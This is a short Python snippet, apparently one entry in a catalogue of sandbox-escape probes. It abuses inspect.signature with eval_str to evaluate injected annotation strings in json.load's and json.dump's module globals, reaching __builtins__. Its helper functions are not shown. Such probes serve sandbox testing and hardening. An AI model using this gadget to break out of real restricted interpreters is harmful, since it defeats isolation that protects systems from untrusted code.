# e58: gain: eval in a library function's globals
import inspect, json
def attack(f, text):
    try: f.__annotations__ = {"obj": text, "fp": text}
    except Exception: return
    reach(attempt(lambda: inspect.signature(f, eval_str=True).parameters["fp"].annotation))
attack(json.load, "codecs.builtins")
attack(json.dump, "__builtins__")
